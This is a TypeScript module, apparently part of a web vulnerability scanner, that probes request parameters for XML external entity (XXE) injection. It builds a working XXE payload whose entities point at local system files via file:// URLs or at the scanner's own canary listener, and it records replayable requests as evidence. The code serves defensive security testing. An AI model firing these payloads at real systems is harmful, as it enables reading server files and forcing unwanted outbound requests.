import type { Evidence } from "../finding.ts";
import { type Lab, type Point, type Shot, twice } from "../lab.ts";
import { textOf } from "../../probing/operation.ts";
import { type PointAttack, systemFiles } from "./attack.ts";

/** XML that names external entities: files of the machine, and our listener. */
export const xxe: PointAttack = {
  id: "xxe",
  applies: ({ parameter }) =>
    parameter.in === "xml" ||
    /^\s*<[?!a-zA-Z]/.test(textOf(parameter.value)) ||
    /^(xml|soap|wsdl|svg|feed)$/i.test(parameter.name),
  run: async (point, lab) => {
    const found = [await local(point, lab), await remote(point, lab)];
    return found.filter((one) => one !== null);
  },
};

function document(system: string): string {
  return `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "${system}">]><r>&e;</r>`;
}

async function local(point: Point, lab: Lab): Promise<Evidence | null> {
  const found = await twice<Shot>(async (round) => {
    const file = systemFiles[round];
    const shot = await lab.shoot(point, document(`file://${file.path}`));
    if (shot === null || !file.sign.test(shot.answer.body)) return null;
    return { says: `an entity was replaced by ${file.path}`, shot };
  });
  return found === null
    ? null
    : { rule: "xxe", technique: "local", evidence: found.says, replay: found.shot.request };
}

async function remote(point: Point, lab: Lab): Promise<Evidence | null> {
  const { canary } = lab;
  if (canary === null) return null;
  const found = await twice<Shot>(async (round) => {
    const token = point.random.word(16);
    const shot = await lab.shoot(point, document(canary.url(token, "canary")));
    if (shot === null || !(await canary.heard(token))) return null;
    const says = [
      "an entity was fetched from our listener",
      "and again from another address of it",
    ];
    return { says: says[round] ?? "", shot };
  });
  return found === null
    ? null
    : { rule: "xxe", technique: "remote", evidence: found.says, replay: found.shot.request };
}
